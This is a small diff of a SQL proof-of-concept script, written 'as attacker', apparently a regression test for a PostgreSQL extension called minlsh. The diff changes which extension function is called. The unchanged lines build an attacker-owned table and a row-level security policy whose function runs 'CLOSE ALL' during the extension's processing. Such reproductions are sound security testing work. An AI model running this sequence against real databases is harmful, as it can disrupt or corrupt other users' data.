@@ -4,7 +4,7 @@
 -- as attacker:
 CREATE TABLE evil.docs (id int PRIMARY KEY, body text);
 INSERT INTO evil.docs SELECT i, 'one text of many ' || i % 50 FROM generate_series(1, 3000) i;
-SELECT minlsh_create_index('evil.docs', 'body');
+SELECT minlsh_create_side_table('evil.docs', 'body');
 CREATE FUNCTION evil.close() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CLOSE ALL'; RETURN true; END $$;
 CREATE POLICY p ON evil.docs USING (evil.close());
 ALTER TABLE evil.docs ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
